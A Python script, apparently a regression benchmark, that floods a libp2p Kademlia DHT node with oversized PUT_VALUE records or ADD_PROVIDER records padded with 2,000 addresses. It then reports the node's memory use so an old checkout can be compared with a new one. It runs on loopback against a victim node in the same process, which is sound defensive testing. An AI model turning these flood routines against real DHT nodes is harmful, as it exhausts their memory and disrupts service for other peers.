"""RSS of a DHT node under a PUT_VALUE or ADD_PROVIDER flood, victim and attackers in this process.

    PYTHONPATH=<checkout> python scripts/attack_dht.py put|provide

Run it with PYTHONPATH on an old checkout and on a new one to compare. ``put``: 300 PUT_VALUEs of 1 MB
under a namespace with no validator, from one peer. ``provide``: 40 identities, each sends 10
ADD_PROVIDERs for random keys with 2,000 addresses in the record. Loopback only; ~10-40 s.
"""

from __future__ import annotations

import gc
import os
import sys
import time

import trio
from libp2p.abc import IHost
from libp2p.custom_types import TProtocol
from libp2p.kad_dht.common import PROTOCOL_ID
from libp2p.kad_dht.pb.kademlia_pb2 import Message
from libp2p.network.stream.exceptions import StreamError
from libp2p.peer.peerstore import env_to_send_in_RPC
from libp2p.utils.varint import encode_varint_prefixed, read_varint_prefixed_bytes_limited
from multiaddr import Multiaddr

from node.net.dht import Dht, open_dht
from node.net.host import connect, listen_addrs, new_identity, open_host
from protocol.cid import MULTIHASH_PREFIX


def rss_mib() -> float:
    gc.collect()
    with open("/proc/self/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return 0.0


async def ask(host: IHost, dht: Dht, message: Message) -> None:
    stream = await host.new_stream(dht.host.get_id(), [TProtocol(PROTOCOL_ID)])
    try:
        await stream.write(encode_varint_prefixed(message.SerializeToString()))
        with trio.move_on_after(5):
            await read_varint_prefixed_bytes_limited(stream, 1 << 22)
    except (StreamError, OSError, ValueError, EOFError):
        pass  # refused: the stream was reset
    finally:
        await stream.reset()


async def flood_values(dht: Dht) -> str:
    async with open_host(new_identity()) as bad:
        await connect(bad, listen_addrs(dht.host)[0])
        value = os.urandom(1_000_000)
        for i in range(300):
            message = Message()
            message.type = Message.MessageType.PUT_VALUE
            message.key = message.record.key = f"/junk/{i}".encode()
            message.record.value = value
            message.senderRecord = env_to_send_in_RPC(bad)[0]
            await ask(bad, dht, message)
        during = rss_mib()
    return f"values stored {dht.kad.get_value_store_size()}, RSS before the attacker left {during:.0f} MiB"


async def flood_providers(dht: Dht) -> str:
    addrs = [Multiaddr(f"/ip4/10.0.{i // 256}.{i % 256}/tcp/4001").to_bytes() for i in range(2000)]
    for _ in range(40):
        async with open_host(new_identity()) as bad:
            await connect(bad, listen_addrs(dht.host)[0])
            envelope = env_to_send_in_RPC(bad)[0]
            for _ in range(10):
                message = Message()
                message.type = Message.MessageType.ADD_PROVIDER
                message.key = MULTIHASH_PREFIX + os.urandom(32)
                message.senderRecord = envelope
                provider = message.providerPeers.add()
                provider.id = bad.get_id().to_bytes()
                provider.addrs.extend(addrs)
                provider.signedRecord = envelope
                await ask(bad, dht, message)
    records = dht.kad.provider_store.providers.values()
    held = sum(len(r.addresses) for by_peer in records for r in by_peer.values())
    return f"records {sum(len(by_peer) for by_peer in records)}, addresses held {held}"


async def main(which: str) -> None:
    async with open_host(new_identity()) as host, open_dht(host) as dht:
        before, start = rss_mib(), time.monotonic()
        what = await (flood_values(dht) if which == "put" else flood_providers(dht))
        print(f"{which}: RSS {before:.0f} -> {rss_mib():.0f} MiB; {what}; {time.monotonic() - start:.0f} s")


if __name__ == "__main__":
    if len(sys.argv) != 2 or sys.argv[1] not in ("put", "provide"):
        sys.exit("usage: attack_dht.py put|provide")
    trio.run(main, sys.argv[1])
